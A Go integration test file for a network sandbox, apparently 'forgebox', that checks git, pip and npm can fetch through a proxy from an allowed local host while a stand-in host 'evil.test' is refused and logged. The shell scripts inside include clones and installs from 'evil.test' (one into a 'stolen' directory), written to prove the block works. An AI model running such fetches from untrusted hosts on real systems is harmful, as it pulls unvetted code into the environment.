package integration

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestNetAllowGit: git clones over HTTPS through the proxy from an allowed
// host, and cannot from another.
func TestNetAllowGit(t *testing.T) {
	needTools(t, "curl", "git")
	backend := filepath.Join(strings.TrimSpace(mustOutput(t, harnessPath("git"), "--exec-path")), "git-http-backend")
	if _, err := os.Stat(backend); err != nil {
		t.Skipf("git-http-backend is missing: %v", err)
	}
	forEachMode(t, func(t *testing.T, e *env) {
		ca := e.newCA()
		root := gitProjectRoot(t, e)
		conf := ca.serverConfig(t, "git.test", "evil.test")
		good, evil := serveGit(t, conf, backend, root), serveGit(t, conf, backend, root)
		e.userConfig(netConfig{AllowPrivate: []string{"127.0.0.0/8"}, Hosts: e.hostsFile("127.0.0.1 git.test evil.test")})
		script := fmt.Sprintf(`git -c http.sslCAInfo=ca.pem clone -q %s clone && cat clone/README
git -c http.sslCAInfo=ca.pem clone -q %s stolen 2>err.txt; echo "evil clone: $?"
`, good.url("https", "git.test")+"repo.git", evil.url("https", "evil.test")+"repo.git")
		r, res := e.runJSON([]string{"--net", "allow=git.test", "--", "sh", "-c", script})
		if !strings.Contains(res.Stdout, "cloned through forgebox\n") || strings.Contains(res.Stdout, "evil clone: 0") {
			t.Errorf("output %q; want the README of the clone from git.test and a failed clone from evil.test\nstderr: %s", res.Stdout, res.Stderr)
		}
		if _, err := os.Stat(filepath.Join(e.ws, "stolen", ".git", "HEAD")); err == nil {
			t.Errorf("the clone from evil.test exists")
		}
		good.wantRequests(t, 2)
		evil.wantAccepted(t, 0)
		run := decodeNetRun(t, r.stdout)
		var down int64
		for _, c := range run.find("connect", "git.test", good.port) {
			if c.Decision != "allowed" {
				t.Errorf("tunnel to git.test: %+v; want allowed", c)
			}
			down += c.BytesDown
		}
		if down < 1000 {
			t.Errorf("%d bytes came down the tunnels to git.test; want a pack", down)
		}
		run.want(t, "connect", "evil.test", evil.port, "denied", "not-allowed")
	})
}

// TestNetAllowPip: pip installs from a PEP 503 index over HTTPS through
// the proxy; an extra index on a host not allowed is refused and unused.
func TestNetAllowPip(t *testing.T) {
	needTools(t, "curl", "python3")
	if out, err := exec.Command(harnessPath("python3"), "-m", "pip", "--version").CombinedOutput(); err != nil {
		t.Skipf("pip is not installed for python3 (python3 -m pip: %v, %s)", err, out)
	}
	forEachMode(t, func(t *testing.T, e *env) {
		ca := e.newCA()
		conf := ca.serverConfig(t, "pypi.test", "evil.test")
		wheel, sum := buildWheel(t, "fbnetpkg", "0.1", "MESSAGE = 'installed through forgebox'\n")
		index, evil := serveHost(t, "127.0.0.1", conf, pypi(wheel, sum)), serveHost(t, "127.0.0.1", conf, pypi(wheel, sum))
		e.userConfig(netConfig{AllowPrivate: []string{"127.0.0.0/8"}, Hosts: e.hostsFile("127.0.0.1 pypi.test evil.test")})
		script := fmt.Sprintf(`python3 -m pip install -q --no-cache-dir --disable-pip-version-check --no-input --retries 0 --timeout 10 \
  --cert ca.pem --index-url %ssimple/ --extra-index-url %ssimple/ --target site fbnetpkg==0.1 &&
python3 -c 'import sys; sys.path.insert(0, "site"); import fbnetpkg; print(fbnetpkg.MESSAGE)'
`, index.url("https", "pypi.test"), evil.url("https", "evil.test"))
		r, res := e.runJSON([]string{"--net", "allow=pypi.test", "--", "sh", "-c", script})
		if res.ExitCode != 0 || res.Stdout != "installed through forgebox\n" {
			t.Errorf("pip install: exit %d, stdout %q; want the package imported\nstderr: %s", res.ExitCode, res.Stdout, res.Stderr)
		}
		index.wantRequests(t, 2) // the project page and the wheel
		evil.wantAccepted(t, 0)
		run := decodeNetRun(t, r.stdout)
		run.want(t, "connect", "evil.test", evil.port, "denied", "not-allowed")
		for _, c := range run.Connections {
			if c.Host != "evil.test" && (c.Host != "pypi.test" || c.Decision != "allowed") {
				t.Errorf("connection %+v; want pypi.test allowed, or evil.test denied", c)
			}
		}
	})
}

// TestNetAllowHistory: the history keeps the connections of a run, the
// same list as the JSON result, in show --json, the export and the text.
func TestNetAllowHistory(t *testing.T) {
	needTools(t, "curl")
	forEachMode(t, func(t *testing.T, e *env) {
		okWeb, noWeb := serveHost(t, "127.0.0.1", nil), serveHost(t, "127.0.0.1", nil)
		e.userConfig(netConfig{AllowPrivate: []string{"127.0.0.0/8"}, Hosts: e.hostsFile("127.0.0.1 ok.test no.test")})
		db := filepath.Join(e.dir, "history.db")
		reqs := []request{{name: "ok", url: okWeb.url("http", "ok.test")}, {name: "no", url: noWeb.url("http", "no.test")}}
		r, res := e.runJSON([]string{"--history-db", db, "--net", "allow=ok.test", "--", "sh", "-c", curlScript(reqs)})
		key, _ := res.raw["history_key"].(string)
		if key == "" {
			t.Fatalf("history_key = %v; want the run's key\nstderr: %s", res.raw["history_key"], r.stderr)
		}
		run := decodeNetRun(t, r.stdout)
		run.want(t, "http", "ok.test", okWeb.port, "allowed", "")
		run.want(t, "http", "no.test", noWeb.port, "denied", "not-allowed")

		show := e.run([]string{"history", "show", "--json", "--history-db", db, key})
		var row struct {
			Network struct {
				Connections []netConn `json:"connections"`
			} `json:"network"`
		}
		if err := json.Unmarshal([]byte(show.stdout), &row); show.code != 0 || err != nil {
			t.Fatalf("history show --json: exit %d, %v\n%s%s", show.code, err, show.stdout, show.stderr)
		}
		sameConns(t, "history show --json", row.Network.Connections, run.Connections)

		export := e.run([]string{"history", "export", "--jsonl", "--history-db", db})
		var found bool
		for _, line := range strings.Split(strings.TrimSpace(export.stdout), "\n") {
			var x struct {
				Key     string `json:"key"`
				Network struct {
					Connections []netConn `json:"connections"`
				} `json:"network"`
			}
			if json.Unmarshal([]byte(line), &x) == nil && len(x.Network.Connections) > 0 {
				found = true
				sameConns(t, "history export", x.Network.Connections, run.Connections)
			}
		}
		if !found {
			t.Errorf("history export --jsonl: no record with a network field (exit %d)\n%s", export.code, export.stdout)
		}
		text := e.run([]string{"history", "show", "--history-db", db, key}).stdout
		for _, want := range []string{"network:", fmt.Sprintf("allowed ok.test:%d http", okWeb.port), fmt.Sprintf("denied no.test:%d http", noWeb.port)} {
			if !strings.Contains(text, want) {
				t.Errorf("history show: no %q in\n%s", want, text)
			}
		}
	})
}

// --- The sandbox side: curl and the attack script ---

// request is one curl inside the sandbox.

// TestNetAllowNpm: npm installs from a registry over HTTPS through the
// proxy (it reads HTTPS_PROXY); a registry on a host not allowed is refused
// and never reached.
func TestNetAllowNpm(t *testing.T) {
	needTools(t, "npm", "node")
	forEachMode(t, func(t *testing.T, e *env) {
		ca := e.newCA()
		conf := ca.serverConfig(t, "npm.test", "evil.test")
		tgz := npmTarball(t, "fbnetpkg", "0.1.0", `module.exports = { message: "installed through forgebox" };`+"\n")
		registry := serveHost(t, "127.0.0.1", conf, npmRegistry("fbnetpkg", "0.1.0", tgz))
		evil := serveHost(t, "127.0.0.1", conf, npmRegistry("fbnetpkg", "0.1.0", tgz))
		e.userConfig(netConfig{AllowPrivate: []string{"127.0.0.0/8"}, Hosts: e.hostsFile("127.0.0.1 npm.test evil.test")})
		install := func(host string, port int) string {
			return fmt.Sprintf(`npm install --no-audit --no-fund --no-update-notifier --loglevel=error --fetch-retries=0 --cache /tmp/npm-cache \
  --cafile ca.pem --registry https://%s:%d/ --prefix site fbnetpkg@0.1.0`, host, port)
		}
		script := install("npm.test", registry.port) + ` && node -e 'console.log(require("./site/node_modules/fbnetpkg").message)'`
		r, res := e.runJSON([]string{"--net", "allow=npm.test", "--", "sh", "-c", script})
		if res.ExitCode != 0 || !strings.HasSuffix(res.Stdout, "\ninstalled through forgebox\n") {
			t.Errorf("npm install: exit %d, stdout %q; want the package loaded\nstderr: %s", res.ExitCode, res.Stdout, res.Stderr)
		}
		registry.wantRequests(t, 2) // the packument and the tarball
		run := decodeNetRun(t, r.stdout)
		for _, c := range run.Connections {
			if c.Host != "npm.test" || c.Decision != "allowed" {
				t.Errorf("connection %+v; want npm.test allowed only", c)
			}
		}
		r, res = e.runJSON([]string{"--net", "allow=npm.test", "--", "sh", "-c", install("evil.test", evil.port)})
		if res.ExitCode == 0 {
			t.Errorf("npm install from evil.test succeeded\nstdout: %s", res.Stdout)
		}
		evil.wantAccepted(t, 0)
		decodeNetRun(t, r.stdout).want(t, "connect", "evil.test", evil.port, "denied", "not-allowed")
	})
}

// npmTarball packs a package of one index.js the way npm publishes it.
func npmTarball(t *testing.T, name, version, code string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, f := range []struct{ path, data string }{
		{"package/package.json", fmt.Sprintf(`{"name": %q, "version": %q, "main": "index.js"}`, name, version)},
		{"package/index.js", code},
	} {
		if err := tw.WriteHeader(&tar.Header{Name: f.path, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, f.data)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// npmRegistry serves one version of one package: its packument, which
// names the tarball on the host the client asked for, and the tarball.
func npmRegistry(name, version string, tgz []byte) http.Handler {
	file := name + "-" + version + ".tgz"
	sha1sum := sha1.Sum(tgz)
	sha512sum := sha512.Sum512(tgz)
	mux := http.NewServeMux()
	mux.HandleFunc("/"+name, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{
			"name": name, "dist-tags": map[string]string{"latest": version},
			"versions": map[string]any{version: map[string]any{
				"name": name, "version": version,
				"dist": map[string]string{
					"tarball":   fmt.Sprintf("https://%s/%s/-/%s", r.Host, name, file),
					"shasum":    hex.EncodeToString(sha1sum[:]),
					"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sha512sum[:]),
				},
			}},
		})
	})
	mux.HandleFunc("/"+name+"/-/"+file, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(tgz)
	})
	return mux
}
